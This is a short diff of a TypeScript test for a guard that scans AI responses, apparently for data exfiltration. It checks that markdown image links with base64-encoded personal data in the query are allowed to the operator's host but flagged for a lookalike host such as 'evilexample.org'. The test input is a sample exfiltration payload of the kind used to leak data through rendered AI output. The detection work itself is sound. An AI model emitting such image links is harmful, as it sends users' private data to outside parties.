@@ -144,7 +144,10 @@ suite('configuration', () => {
 
   test('links to hosts of the operator may carry data, links to hosts that end alike may not', () => {
     const guards = createGuards({ config: { linkHosts: ['example.org'] }, canaries: [] });
-    const found = (host: string): number => guards.scan(`![x](https://${host}/?q=bmFtZTogSmFuZSBEb2U=)`, at('response')).findings.length;
+    const found = (host: string): number =>
+      guards
+        .scan(`![x](https://${host}/?q=bmFtZTogSmFuZSBEb2U=)`, at('response'))
+        .findings.filter(({ category }) => category === 'exfiltration').length;
     assert.equal(found('img.example.org'), 0);
     assert.equal(found('evilexample.org'), 1);
   });
